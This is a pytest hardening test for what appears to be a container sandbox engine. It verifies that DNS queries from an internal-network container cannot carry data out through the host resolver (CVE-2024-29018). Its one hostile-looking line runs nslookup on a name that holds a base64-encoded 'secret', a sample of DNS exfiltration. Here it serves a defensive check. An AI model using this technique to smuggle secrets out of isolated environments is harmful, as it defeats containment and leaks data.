"""What an internal network must not get out by the engine's server for names."""

from __future__ import annotations

import os
import socket
import uuid
from typing import TYPE_CHECKING

import pytest

from sandbox.runtime.spec import Dns

if TYPE_CHECKING:
    from sandbox.runtime.engine import Engine
    from tests.hardening.conftest import Start

pytestmark = pytest.mark.root


def test_questions_do_not_leave_an_internal_network(engine: Engine, start: Start) -> None:
    """The resolver is a process of the host's, which would carry a secret out in a name; not even to a server that the
    container asks for (CVE-2024-29018).
    """
    network = f"shut-{uuid.uuid4().hex[:8]}"
    engine.networks.create(network, internal=True)
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((f"127.99.{os.getpid() % 250 + 1}.{os.getpid() // 250 % 250 + 1}", 53))
    server.setblocking(False)
    try:
        container = start(network=network, dns=Dns(servers=(server.getsockname()[0],)))
        _, output = container.execute("nslookup", "c2VjcmV0.example.org")
        assert "127.0.0.11" in output  # the engine's, which has answered
        with pytest.raises(BlockingIOError):
            server.recv(100)
        engine.remove(container.id, force=True)
    finally:
        server.close()
        engine.networks.remove(network)
